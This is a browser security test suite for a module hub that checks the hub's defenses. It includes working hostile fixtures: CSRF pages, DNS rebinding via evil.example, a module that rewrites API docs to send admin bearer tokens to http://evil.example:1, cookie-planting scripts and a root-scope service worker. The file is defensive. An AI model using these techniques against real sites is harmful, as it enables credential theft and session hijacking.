// Issue 11 items 10 and 12 in a real browser (Chromium), as a web page would try them:
// - a page on another origin posts to a module route (a form, a text/plain form shaped as
//   JSON, fetch no-cors, sendBeacon): no note is created (item 12: "creates a note");
// - DNS rebinding: a name that resolves to 127.0.0.1 (Chromium's --host-resolver-rules) makes
//   a foreign page same-origin with the hub; both origins answer it 421 (item 12: "Host:
//   evil.example is answered on every route");
// - the API docs' "Try it out" (item 10): a module that marks its operations with the admin
//   scheme and a server of its own gets no Authorize box on the public origin, and Execute
//   calls the hub itself without credentials; the admin origin's docs list no module operation.
// tests/hostile-module-http.test.ts checks the same walls header by header.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser } from 'playwright-core';
import { launchChromium } from './helpers/browser.js';
import { createTestDatabase } from './helpers/database.js';
import { startKernel, stopAllKernels, type RunningKernel } from './helpers/kernel.js';
import { tempDir, writeModule } from './helpers/modules.js';

interface BrowserGlobal {
  __done?: boolean;
  __sw?: { root?: string; own?: string };
}

// "notes" with writes on, in memory
const notesRouter = `const notes = [];
export default (router) => {
  router.get('/notes', (req, res) => res.json(notes));
  router.post('/notes', (req, res) => { notes.push(String(req.body?.text ?? '')); res.status(201).json({ id: notes.length }); });
  router.get('/hello', (req, res) => res.json({ hello: 'world' }));
};`;

// API docs that borrow the kernel's adminToken scheme and point "Try it out" elsewhere
const docsThiefRouter = `export default (router, ctx) => {
  router.get('/mine', (req, res) => res.json({ ok: true }));
  const stringify = JSON.stringify;
  JSON.stringify = function (value, ...rest) {
    if (value && typeof value === 'object' && value.openapi && value.paths) {
      for (const item of Object.values(value.paths)) for (const op of Object.values(item)) {
        op.security = [{ adminToken: [] }];
        op.servers = [{ url: 'http://evil.example:1' }];
      }
      value.components = { securitySchemes: { adminToken: { type: 'http', scheme: 'bearer' } } };
      value.security = [{ adminToken: [] }];
    }
    return stringify.call(this, value, ...rest);
  };
};`;

// A module page that plants look-alikes of the hub's cookies (cookies ignore ports, and a
// longer Path is sent first): a junk hub_admin_session for /api on the admin origin's host
const tosserViews = `export default (router) => {
  router.get('/', (req, res) => res.type('html').send(\`<!doctype html><title>tosser</title><script>
for (const path of ['/api', '/api/v1', '/api/v1/modules', '/']) {
  document.cookie = 'hub_admin_session=' + 'A'.repeat(43) + '; path=' + path;
  document.cookie = 'hub_admin_session=junk; path=' + path;
}
window.__done = true;
</script>\`));
  // an answer that tells the browser to drop every cookie of the host (every port: the admin
  // session too), and a service worker that asks to control the whole public origin
  router.get('/wipe', (req, res) => res.set('clear-site-data', '"cookies", "storage"').json({ wiped: true }));
  router.get('/sw.js', (req, res) => res.set('service-worker-allowed', '/').type('text/javascript').send("self.addEventListener('fetch', () => {});"));
  router.get('/sw', (req, res) => res.type('html').send(\`<!doctype html><title>sw</title><script>
const out = window.__sw = {};
navigator.serviceWorker.register('/tosser/sw.js', { scope: '/' }).then((r) => (out.root = r.scope), (e) => (out.root = 'refused: ' + e.name))
  .then(() => navigator.serviceWorker.register('/tosser/sw.js', { scope: '/tosser/' })).then((r) => (out.own = r.scope), (e) => (out.own = 'refused: ' + e.name))
  .then(() => (window.__done = true));
</script>\`));
};`;

let k: RunningKernel;
let browser: Browser;
let foreign: Server;
let foreignUrl: string;

beforeAll(async () => {
  const modulesDir = tempDir('modules');
  writeModule(modulesDir, 'notes', { router: notesRouter, manifest: { tags: ['Notes'] } });
  writeModule(modulesDir, 'docs_thief', { router: docsThiefRouter });
  writeModule(modulesDir, 'tosser', { views: tosserViews });
  k = await startKernel({ modulesDir });
  await k.waitForState('docs_thief', 'running');
  browser = await launchChromium(['--host-resolver-rules=MAP evil.example 127.0.0.1']);
  const target = `${k.url}/api/v1/notes/notes`;
  // the foreign page: "localhost" is another site than "127.0.0.1", and another port
  foreign = createServer((_req, res) => {
    res.setHeader('content-type', 'text/html');
    res.end(`<!doctype html><title>elsewhere</title>
<iframe name="s1"></iframe><iframe name="s2"></iframe>
<form id="a" method="post" target="s1" action="${target}"><input name="text" value="form"></form>
<form id="b" method="post" target="s2" enctype="text/plain" action="${target}"><input name='{"text":"plain","x":"' value='"}'></form>
<script>
document.getElementById('a').submit();
document.getElementById('b').submit();
Promise.allSettled([
  fetch(${JSON.stringify(target)}, { method: 'POST', mode: 'no-cors', body: 'text=nocors', headers: { 'content-type': 'application/x-www-form-urlencoded' } }),
  Promise.resolve(navigator.sendBeacon(${JSON.stringify(target)}, new Blob(['text=beacon'], { type: 'application/x-www-form-urlencoded' }))),
]).then(() => setTimeout(() => (window.__done = true), 1000));
</script>`);
  });
  foreignUrl = `http://localhost:${await new Promise<number>((r) => foreign.listen(0, '127.0.0.1', () => r((foreign.address() as AddressInfo).port)))}/`;
}, 120_000);

afterAll(async () => {
  await browser?.close();
  foreign?.close();
  await stopAllKernels();
});

describe('a page on another origin', () => {
  it('posts to a module route with a form, a text/plain form, fetch no-cors and a beacon: four refusals, no note', async () => {
    const page = await browser.newPage();
    const answers: number[] = [];
    page.on('response', (r) => {
      if (r.url().startsWith(`${k.url}/api/v1/notes/notes`) && r.request().method() === 'POST') answers.push(r.status());
    });
    try {
      await page.goto(foreignUrl);
      await page.waitForFunction(() => (globalThis as unknown as BrowserGlobal).__done === true, undefined, { timeout: 20_000 });
    } finally {
      await page.close();
    }
    // every one of them reached the hub (so the browser did send them) and was refused there
    expect(answers.length).toBeGreaterThanOrEqual(3);
    for (const s of answers) expect(s).toBe(403);
    expect(await k.json('/api/v1/notes/notes')).toEqual([]);
  });
});

describe('DNS rebinding', () => {
  it('answers 421 on both origins to a page whose name resolves to 127.0.0.1, and to its own fetches', async () => {
    const page = await browser.newPage();
    try {
      for (const [port, path] of [[k.port, '/health'], [k.port, '/api/v1/notes/hello'], [k.adminPort, '/login'], [k.adminPort, '/api/docs']] as const) {
        const res = await page.goto(`http://evil.example:${port}${path}`);
        expect(res?.status(), `${port}${path}`).toBe(421);
        expect(await res?.json()).toMatchObject({ error: 'misdirected_request' });
      }
      // the rebound page is same-origin with "the hub": its script can read answers, so they must be refusals
      await page.goto(`http://evil.example:${k.port}/health`);
      const seen = await page.evaluate(async () => {
        const r = await fetch('/api/v1/notes/notes', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"text":"rebound"}' });
        return r.status;
      });
      expect(seen).toBe(421);
    } finally {
      await page.close();
    }
    expect(await k.json('/api/v1/notes/notes')).toEqual([]);
  });
});

describe('"Try it out" in the API docs', () => {
  it('on the public origin: no Authorize box, and Execute calls the hub itself with no credential, whatever the module wrote', async () => {
    const page = await browser.newPage();
    const sent: { url: string; authorization: string | undefined }[] = [];
    page.on('request', (r) => {
      if (r.url().includes('/mine')) sent.push({ url: r.url(), authorization: r.headers().authorization });
    });
    try {
      await page.goto(`${k.url}/api/docs`);
      const op = page.locator('.opblock', { hasText: '/api/v1/docs_thief/mine' }).first();
      await op.waitFor({ timeout: 30_000 });
      expect(await page.locator('.btn.authorize').count()).toBe(0);
      await op.locator('.opblock-summary').click();
      await op.locator('.try-out__btn').click();
      const answer = page.waitForResponse((r) => r.url().includes('/mine'), { timeout: 20_000 });
      await op.locator('.execute').click();
      expect((await answer).status()).toBe(200);
      expect(sent).toEqual([{ url: `${k.url}/api/v1/docs_thief/mine`, authorization: undefined }]);
    } finally {
      await page.close();
    }
  });

  it('on the admin origin: the kernel scheme is offered, and no module operation is listed to try', async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    try {
      await page.goto(`${k.adminUrl}/login`);
      await page.fill('#token', k.adminToken()!);
      await page.locator('form.login-form button[type="submit"]').click();
      await page.waitForURL(`${k.adminUrl}/`);
      await page.goto(`${k.adminUrl}/api/docs`);
      await page.locator('.opblock', { hasText: '/api/v1/modules/{name}/disable' }).first().waitFor({ timeout: 30_000 });
      expect(await page.locator('.btn.authorize').count()).toBe(1);
      expect(await page.locator('.opblock-summary-path', { hasText: '/api/v1/docs_thief' }).count()).toBe(0);
      expect(await page.locator('.opblock-summary-path', { hasText: '/api/v1/notes' }).count()).toBe(0);
      // nothing a script could carry away
      expect(await page.evaluate(() => {
        const g = globalThis as unknown as { sessionStorage: { length: number }; localStorage: { length: number }; document: { cookie: string } };
        return [g.sessionStorage.length, g.localStorage.length, g.document.cookie];
      })).toEqual([0, 0, '']);
    } finally {
      await context.close();
    }
  });
});

describe('a module page planting hub cookies', () => {
  // sessions in memory (HUB_DATABASE=off, the kernel above) and in the database
  it.each(['in memory', 'in the database'])('cannot sign the operator out of the dashboard actions: a look-alike hub_admin_session sent first is skipped, a Clear-Site-Data answer dropped (sessions %s)', async (where) => {
    const db = where === 'in the database' ? await createTestDatabase() : null;
    let kernel = k;
    if (db) {
      const modulesDir = tempDir('modules');
      writeModule(modulesDir, 'notes', { router: notesRouter });
      writeModule(modulesDir, 'tosser', { views: tosserViews });
      kernel = await startKernel({ modulesDir, databaseUrl: db.url });
    }
    try {
      await plantAndRestart(kernel);
    } finally {
      if (db) {
        await kernel.stop();
        await db.drop();
      }
    }
  }, 120_000);
});

async function plantAndRestart(k: RunningKernel): Promise<void> {
  {
    const context = await browser.newContext();
    const page = await context.newPage();
    try {
      await page.goto(`${k.adminUrl}/login`);
      await page.fill('#token', k.adminToken()!);
      await page.locator('form.login-form button[type="submit"]').click();
      await page.waitForURL(`${k.adminUrl}/`);
      const tosser = await context.newPage();
      await tosser.goto(`${k.url}/tosser/`);
      await tosser.waitForFunction(() => (globalThis as unknown as BrowserGlobal).__done === true);
      await tosser.close();
      // the browser now sends junk hub_admin_session values before the real one on /api paths
      expect((await context.cookies(`${k.adminUrl}/api/v1/modules/notes/restart`)).filter((c) => c.name === 'hub_admin_session').length).toBeGreaterThan(1);
      const pid = (await k.record('notes')).pid;
      // what the dashboard's Restart button does: a same-origin POST riding the session cookie
      const status = await page.evaluate(async () => (await fetch('/api/v1/modules/notes/restart', { method: 'POST' })).status);
      expect(status).toBe(200);
      expect((await k.record('notes')).pid).not.toBe(pid);
      // a module answer with Clear-Site-Data: "cookies" would clear the admin session too (cookies ignore ports)
      const wiper = await context.newPage();
      expect((await wiper.goto(`${k.url}/tosser/wipe`))?.status()).toBe(200);
      await wiper.close();
      expect((await context.cookies(k.adminUrl)).map((c) => c.name)).toContain('hub_admin_session');
      expect(await page.evaluate(async () => (await fetch('/api/v1/modules/notes/restart', { method: 'POST' })).status)).toBe(200);
    } finally {
      await context.close();
    }
  }
}

describe('a module page registering a service worker', () => {
  it('gets one for its own pages only, never for the whole public origin (/login and the other modules)', async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    try {
      await page.goto(`${k.url}/tosser/sw`);
      await page.waitForFunction(() => (globalThis as unknown as BrowserGlobal).__done === true, undefined, { timeout: 20_000 });
      const sw = await page.evaluate(() => (globalThis as unknown as BrowserGlobal).__sw);
      expect(sw?.root).toBe('refused: SecurityError');
      expect(sw?.own).toBe(`${k.url}/tosser/`);
    } finally {
      await context.close();
    }
  });
});
